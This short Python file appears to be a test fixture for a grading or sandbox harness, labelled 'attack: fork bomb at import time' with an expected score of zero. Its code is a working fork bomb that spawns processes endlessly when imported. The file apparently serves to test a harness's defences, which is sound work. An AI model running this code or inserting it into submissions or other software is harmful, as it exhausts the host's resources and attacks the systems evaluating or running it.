# attack: fork bomb at import time
# expect: score=0
import os

_export(False)
children = 0
try:
    while children < 100000:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
        children += 1
except OSError:
    pass
